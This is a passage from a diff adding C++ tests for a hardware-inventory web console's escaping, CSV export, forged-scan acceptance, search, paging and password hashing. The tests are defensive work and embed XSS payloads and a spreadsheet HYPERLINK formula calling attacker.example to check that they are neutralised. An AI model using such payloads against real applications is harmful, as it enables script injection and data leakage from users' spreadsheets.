+                                      "&lt;img src=x onerror=&quot;window.__gravelinPwned=4&quot;&gt;",
+                                      "&apos;&gt;&lt;svg onload=window.__gravelinPwned=5&gt;",
+                                      "&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;script&gt;",
+                                      "&lt;style&gt;body{display:none}&lt;/style&gt;", "javascript:window.__gravelinPwned=3",
+                                      "=HYPERLINK(&quot;http://attacker.example/?leak&quot;,&quot;Open&quot;)"}) {
+        EXPECT_NE(machinePage.find(escaped), std::string::npos) << escaped << " shown escaped";
+    }
+    // Searching for the hostile value finds it and shows it escaped in the search box.
+    const Response search = console_(request("GET", "/machines?q=%3Cscript%3E", cookie));
+    EXPECT_NE(search.body.find("value=\"&lt;script&gt;\""), std::string::npos);
+    EXPECT_NE(search.body.find("/machines/" + std::to_string(machine) + "\""), std::string::npos);
+
+    const Response csv = console_(request("GET", "/machines.csv", cookie));
+    EXPECT_NE(csv.body.find(",\"'=HYPERLINK(\"\"http://attacker.example/?leak\"\",\"\"Open\"\")\","), std::string::npos)
+        << csv.body.substr(0, 2000);
+    EXPECT_NE(csv.body.find("\"<script>window.__gravelinPwned=1</script>\"\"onmouseover=\"\"window.__gravelinPwned=2\"\" x=\"\"\""),
+              std::string::npos);
+    // No field of any record starts a formula.
+    std::istringstream lines(csv.body);
+    for (std::string line; std::getline(lines, line);) {
+        for (const std::regex& formula : {std::regex("(^|,)[=+@-]"), std::regex("(^|,)\"[=+@-]")}) {
+            EXPECT_FALSE(std::regex_search(line, formula)) << line;
+        }
+    }
+}
+
+TEST(ConsoleCsv, FieldsAreQuotedAndFormulasDefused) {
+    const std::vector<std::pair<std::string, std::string>> cases = {
+        {"plain", "plain"},
+        {"", ""},
+        {"Dell Inc.", "Dell Inc."},
+        {"a,b", "\"a,b\""},
+        {"say \"hi\"", "\"say \"\"hi\"\"\""},
+        {"two\nlines", "\"two\nlines\""},
+        {"=1+2", "'=1+2"},
+        {"+1", "'+1"},
+        {"-2", "'-2"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\tTAB", "'\tTAB"},
+        {"\rCR", "\"'\rCR\""},
+        {"=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""},
+        {"a=b", "a=b"},
+        {" =padded", " =padded"},
+        // Control characters other than line breaks and TAB are written visibly.
+        {"SN\u0081\u008D\u008F\u0090\u009D42", "SN\\x81\\x8d\\x8f\\x90\\x9d42"},
+        {"bell\a and del\x7F", "bell\\x07 and del\\x7f"},
+        {"=\x1B[31m", "'=\\x1b[31m"},
+        {"caf\u00E9 \u00A0", "caf\u00E9 \u00A0"},
+    };
+    for (const auto& [value, expected] : cases) EXPECT_EQ(console::csvField(value), expected) << value;
+    std::string record;
+    console::appendCsvRecord(record, {"1", "x,y", "=z"});
+    EXPECT_EQ(record, "1,\"x,y\",'=z\r\n");
+}
+
+TEST_P(ConsoleTest, MachineListCsvHasOneHeaderRowAndEveryMachine) {
+    const std::string cookie = signIn();
+    const Response csv = console_(request("GET", "/machines.csv", cookie));
+    ASSERT_EQ(csv.status, 200);
+    EXPECT_EQ(headerOf(csv, "Content-Type"), "text/csv; charset=utf-8; header=present");
+    EXPECT_EQ(headerOf(csv, "Content-Disposition"), "attachment; filename=\"machines.csv\"");
+    ASSERT_TRUE(csv.body.starts_with("\xEF\xBB\xBF" "id,maker,model,processor,cores,threads,memory_bytes,"));
+    const auto machines = store_->machines({"", storage::MachineSort::LastSeen, true, 1000, 0}).total;
+    EXPECT_EQ(count(csv.body, "\r\n"), machines + 1);
+    EXPECT_NE(csv.body.find(",Dell Inc.,Precision WorkStation 390,"), std::string::npos);
+    const Response found = console_(request("GET", "/machines.csv?q=7TQCK2J", cookie));
+    EXPECT_EQ(count(found.body, "\r\n"), 2u);
+}
+
+TEST_P(ConsoleTest, MachinePageShowsTheHardwareAsATechnicianReadsIt) {
+    const std::string cookie = signIn();
+    const auto machine = machineOf("workstation, first scan");
+    const Response page = console_(request("GET", "/scans/" + std::to_string(scanOf("workstation, first scan")), cookie));
+    ASSERT_EQ(page.status, 200);
+    const std::string& html = page.body;
+    // The table holds two populated slots and two empty ones.
+    EXPECT_EQ(count(html, "<tr class=\"empty\">"), 2u);
+    EXPECT_NE(html.find("2 of 4 slots in use"), std::string::npos);
+    // Slots in the order people count them, whatever order the report lists them in.
+    EXPECT_LT(html.find("<td><bdi>DIMM_1</bdi></td>"), html.find("DIMM_2</bdi></td>"));
+    EXPECT_LT(html.find("DIMM_2</bdi></td>"), html.find("DIMM_3</bdi></td>"));
+    EXPECT_LT(html.find("DIMM_3</bdi></td>"), html.find("<td><bdi>DIMM_4</bdi></td>"));
+    EXPECT_NE(html.find("05176522"), std::string::npos) << "a module's serial number";
+    EXPECT_NE(html.find(">250 GB<"), std::string::npos) << "disk sizes in human units";
+    EXPECT_NE(html.find(">500 GB<"), std::string::npos);
+    EXPECT_TRUE(std::regex_search(html, std::regex("class=\"meter (ok|high|full)\"><span class=\"fill p[0-9]+\">")));
+    EXPECT_NE(html.find("WDC WD5000AAKS-00YGA0"), std::string::npos);
+    EXPECT_NE(html.find("Intel(R) 82801 SATA AHCI Controller"), std::string::npos);
+    EXPECT_NE(html.find("Microsoft Windows 10 Pro"), std::string::npos);
+    EXPECT_NE(html.find("Earlier scan"), std::string::npos);
+    // History newest first, both scans, the compare form preselecting the newest two.
+    const auto newer = html.find("value=\"" + std::to_string(scanOf("workstation, module moved and disk replaced")) + "\"");
+    const auto older = html.find("value=\"" + std::to_string(scanOf("workstation, first scan")) + "\"");
+    ASSERT_NE(newer, std::string::npos);
+    ASSERT_NE(older, std::string::npos);
+    EXPECT_LT(newer, older);
+    EXPECT_NE(html.find("action=\"/diff\""), std::string::npos);
+
+    const Response latest = console_(request("GET", "/machines/" + std::to_string(machine), cookie));
+    EXPECT_NE(latest.body.find("Latest scan"), std::string::npos);
+    EXPECT_NE(latest.body.find("Samsung SSD 860 EVO 500GB"), std::string::npos);
+    EXPECT_EQ(latest.body.find("WDC WD5000AAKS-00YGA0"), std::string::npos);
+}
+
+// A report of other hardware that claims the workstation's UUID and serial (anyone can post
+// one): stored in its history, shown apart with the address it came from, and changing
+// nothing the machine shows until someone signed in accepts it with the form token.
+TEST_P(ConsoleTest, AForgedClaimIsShownApartUntilAccepted) {
+    const std::string cookie = signIn();
+    const auto machine = machineOf("workstation, first scan");
+    const std::string machinePath = "/machines/" + std::to_string(machine);
+    MachineWmi forger;
+    forger.vendor = "Forger Inc.";
+    forger.name = "Claimed Box";
+    forger.serial = workstation().serial;
+    forger.uuid = workstation().uuid;
+    forger.disks = {{"Forged Disk", "FORGED-DISK-1", "1.0", 256060514304ULL}};
+    const auto forged =
+        store_->addScan(newScan(sealedScan("infrasim-dell_r640", forger), kStart, "203.0.113.66"));
+    ASSERT_EQ(forged.machineId, machine) << "the claim reaches the workstation";
+    EXPECT_TRUE(forged.conflicting);
+    const std::string scanPath = "/scans/" + std::to_string(forged.scanId);
+
+    const Response page = console_(request("GET", machinePath, cookie));
+    ASSERT_EQ(page.status, 200);
+    EXPECT_NE(page.body.find("<h1><bdi>Dell Inc.</bdi> <bdi>Precision WorkStation 390</bdi></h1>"), std::string::npos);
+    EXPECT_EQ(page.body.find("Forger Inc."), std::string::npos);
+    EXPECT_NE(page.body.find("conflicting hardware</span> <span class=\"muted\">from <bdi>203.0.113.66</bdi>"),
+              std::string::npos);
+    EXPECT_EQ(count(page.body, "conflicting hardware"), 1u) << "only the claim is marked";
+
+    const Response claim = console_(request("GET", scanPath, cookie));
+    ASSERT_EQ(claim.status, 200);
+    EXPECT_NE(claim.body.find("Conflicting hardware."), std::string::npos);
+    EXPECT_NE(claim.body.find("posted from <bdi>203.0.113.66</bdi>"), std::string::npos);
+    EXPECT_NE(claim.body.find("action=\"" + scanPath + "/accept\""), std::string::npos);
+
+    // Accepting takes a POST with this session's form token.
+    const std::string token = formTokenOf(cookie);
+    const std::string other = formTokenOf(signIn());
+    struct Refused {
+        const char* what;
+        std::string method, cookies, body;
+        int status;
+    };
+    const Refused refused[] = {
+        {"a GET", "GET", cookie, "", 405},
+        {"no token", "POST", cookie, "", 403},
+        {"another session's token", "POST", cookie, "token=" + other, 403},
+        {"no session", "POST", "", "token=" + token, 303},
+    };
+    for (const auto& r : refused) {
+        const Response answer = console_(request(r.method, scanPath + "/accept", r.cookies, r.body));
+        EXPECT_EQ(answer.status, r.status) << r.what;
+        if (r.status == 303) {
+            EXPECT_EQ(headerOf(answer, "Location"), "/signin") << r.what;
+        }
+        EXPECT_EQ(store_->machine(machine)->latest.maker, "Dell Inc.") << r.what;
+    }
+    EXPECT_EQ(console_(request("POST", "/scans/999999/accept", cookie, "token=" + token)).status, 404);
+
+    const Response accepted = console_(request("POST", scanPath + "/accept", cookie, "token=" + token));
+    EXPECT_EQ(accepted.status, 303);
+    EXPECT_EQ(headerOf(accepted, "Location"), scanPath);
+    const Response after = console_(request("GET", machinePath, cookie));
+    EXPECT_NE(after.body.find("<h1><bdi>Forger Inc.</bdi> <bdi>Claimed Box</bdi></h1>"), std::string::npos);
+    EXPECT_EQ(after.body.find("conflicting hardware"), std::string::npos);
+    EXPECT_NE(after.body.find("<span class=\"tag\">accepted</span>"), std::string::npos);
+    EXPECT_EQ(store_->machine(machine)->latestScanId, forged.scanId);
+}
+
+TEST_P(ConsoleTest, DiffPageShowsTheMovedModuleAndTheReplacedDiskOnly) {
+    const std::string cookie = signIn();
+    const auto a = scanOf("workstation, first scan"), b = scanOf("workstation, module moved and disk replaced");
+    const Response r = console_(request("GET", "/diff?a=" + std::to_string(b) + "&b=" + std::to_string(a), cookie));
+    ASSERT_EQ(r.status, 200);
+    // What the differ says about these two scans, row for row.
+    const auto before = report::summarise(*report::receiveSealed(seeds()[0].sealed).report.document);
+    const auto after = report::summarise(*report::receiveSealed(seeds()[1].sealed).report.document);
+    const auto changes = report::diff(before, after);
+    ASSERT_FALSE(changes.empty());
+    EXPECT_EQ(count(r.body, "<span class=\"tag "), changes.size());
+    for (const auto& change : changes) {
+        EXPECT_TRUE(change.component == "Memory" || change.component == "Disk") << change.component << " " << change.key;
+    }
+    EXPECT_NE(r.body.find("05176522"), std::string::npos) << "the moved module, by its serial";
+    EXPECT_NE(r.body.find("S3Z1NB0K812345A"), std::string::npos) << "the new disk";
+    EXPECT_NE(r.body.find("WD-WCAS82143317"), std::string::npos) << "the old disk";
+    EXPECT_EQ(r.body.find("Free"), std::string::npos) << "free space moves by itself";
+    // The older scan is "before", whichever order they were picked in.
+    EXPECT_LT(r.body.find("/scans/" + std::to_string(a) + "\""), r.body.find("/scans/" + std::to_string(b) + "\""));
+
+    const Response mixed = console_(request("GET", "/diff?a=" + std::to_string(a) + "&b=" +
+                                                       std::to_string(scanOf("PowerEdge R630")), cookie));
+    EXPECT_EQ(mixed.status, 400);
+    EXPECT_NE(mixed.body.find("different machines"), std::string::npos);
+    EXPECT_EQ(console_(request("GET", "/diff?a=1", cookie)).status, 400);
+    EXPECT_EQ(console_(request("GET", "/diff?a=" + std::to_string(a) + "&b=99999999", cookie)).status, 404);
+}
+
+TEST_P(ConsoleTest, ExportsGiveTheReportAsSentAsUtf8AndTheScanAsJson) {
+    const std::string cookie = signIn();
+    const auto scan = scanOf("workstation, first scan");
+    const auto received = report::receiveSealed(seeds()[0].sealed).report;
+    const Response raw = console_(request("GET", "/scans/" + std::to_string(scan) + "/report", cookie));
+    ASSERT_EQ(raw.status, 200);
+    EXPECT_EQ(headerOf(raw, "Content-Type"), "application/octet-stream");
+    EXPECT_TRUE(headerOf(raw, "Content-Disposition").starts_with("attachment; filename=\""));
+    EXPECT_EQ(raw.body, received.reportBytes);
+
+    const Response xml = console_(request("GET", "/scans/" + std::to_string(scan) + "/report.xml", cookie));
+    EXPECT_EQ(headerOf(xml, "Content-Type"), "application/xml; charset=utf-8");
+    EXPECT_TRUE(headerOf(xml, "Content-Disposition").starts_with("attachment; "));
+    EXPECT_EQ(xml.body, received.text);
+
+    const Response json = console_(request("GET", "/scans/" + std::to_string(scan) + ".json", cookie));
+    EXPECT_EQ(headerOf(json, "Content-Type"), "application/json; charset=utf-8");
+    const auto document = nlohmann::json::parse(json.body);
+    EXPECT_EQ(document["scan"]["id"], scan);
+    EXPECT_EQ(document["summary"]["model"], "Precision WorkStation 390");
+    EXPECT_EQ(document["summary"]["memory"].size(), 4u);
+
+    EXPECT_EQ(console_(request("GET", "/scans/99999999.json", cookie)).status, 404);
+    EXPECT_EQ(console_(request("GET", "/scans/x/report", cookie)).status, 404);
+}
+
+TEST_P(ConsoleTest, ListSearchesSortsAndPagesOnTheServer) {
+    // Sixty more machines: the workstation's report with other serial numbers and UUIDs.
+    MachineWmi m = workstation();
+    for (int i = 0; i < 60; ++i) {
+        char uuid[40];
+        std::snprintf(uuid, sizeof uuid, "11111111-2222-3333-4444-%012d", i);
+        m.serial = "BULK" + std::to_string(1000 + i);
+        m.uuid = uuid;
+        m.name = "Bulk " + std::to_string(1000 + i);
+        store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", m), kStart + i));
+    }
+    const std::string cookie = signIn();
+    const Response first = console_(request("GET", "/machines?sort=model&dir=asc", cookie));
+    EXPECT_EQ(count(first.body, "<td class=\"text\"><a href=\"/machines/"), 50u);
+    EXPECT_NE(first.body.find("Page 1 of 2"), std::string::npos);
+    EXPECT_NE(first.body.find("href=\"/machines?sort=model&amp;dir=asc&amp;page=2\""), std::string::npos);
+    EXPECT_LT(first.body.find("Bulk 1000"), first.body.find("Bulk 1001"));
+    const Response second = console_(request("GET", "/machines?sort=model&dir=asc&page=2", cookie));
+    const auto total = store_->machines({}).total;
+    EXPECT_EQ(count(second.body, "<td class=\"text\"><a href=\"/machines/"), total - 50);
+    const Response desc = console_(request("GET", "/machines?sort=model&dir=desc", cookie));
+    ASSERT_NE(desc.body.find("Bulk 1058"), std::string::npos);
+    EXPECT_GT(desc.body.find("Bulk 1058"), desc.body.find("Bulk 1059"));
+    // Search by serial number and by UUID: exactly that machine.
+    for (const std::string q : {"BULK1042", "11111111-2222-3333-4444-000000000042"}) {
+        const Response r = console_(request("GET", "/machines?q=" + q, cookie));
+        EXPECT_EQ(count(r.body, "<td class=\"text\"><a href=\"/machines/"), 1u) << q;
+        EXPECT_NE(r.body.find("Bulk 1042"), std::string::npos) << q;
+    }
+    // Absurd pages and sort keys fall back instead of failing.
+    EXPECT_EQ(console_(request("GET", "/machines?page=99999999999999999999&sort=%00&dir=x", cookie)).status, 200);
+    EXPECT_EQ(console_(request("GET", "/machines?page=5000", cookie)).status, 200);
+}
+
+TEST(ConsoleAccounts, AddUserRefusesBadNamesAndShortPasswordsAndHashesWithArgon2id) {
+    MemoryStore store;
+    EXPECT_THROW(console::addUser(store, "", "long enough", console::PasswordCost::Interactive), std::invalid_argument);
+    EXPECT_THROW(console::addUser(store, "a b", "long enough", console::PasswordCost::Interactive), std::invalid_argument);
+    EXPECT_THROW(console::addUser(store, "<x>", "long enough", console::PasswordCost::Interactive), std::invalid_argument);
+    EXPECT_THROW(console::addUser(store, std::string(65, 'a'), "long enough", console::PasswordCost::Interactive),
+                 std::invalid_argument);
+    EXPECT_THROW(console::addUser(store, "bob", "short", console::PasswordCost::Interactive), std::invalid_argument);
+    EXPECT_FALSE(store.account("bob").has_value());
+    console::addUser(store, "bob", "long enough", console::PasswordCost::Interactive);
+    const auto bob = store.account("bob");
+    ASSERT_TRUE(bob.has_value());
+    EXPECT_TRUE(bob->passwordHash.starts_with("$argon2id$v=19$m=65536,t=2,"));
+    EXPECT_TRUE(console::verifyPassword(bob->passwordHash, "long enough"));
+    EXPECT_FALSE(console::verifyPassword(bob->passwordHash, "long enougH"));
+    EXPECT_FALSE(console::verifyPassword("garbage", "long enough"));
+    // Salted: the same password twice gives two hashes.
+    console::addUser(store, "carol", "long enough", console::PasswordCost::Interactive);
+    EXPECT_NE(store.account("carol")->passwordHash, bob->passwordHash);
+    EXPECT_TRUE(console::hashPassword("x").starts_with("$argon2id$v=19$m=262144,t=3,"));
+}
+
+INSTANTIATE_TEST_SUITE_P(Engines, ConsoleTest, ::testing::Values("memory", "sqlite", "postgresql"),
+                         [](const ::testing::TestParamInfo<std::string>& engine) { return engine.param; });
+
+}  // namespace
+}  // namespace gravelin::testing
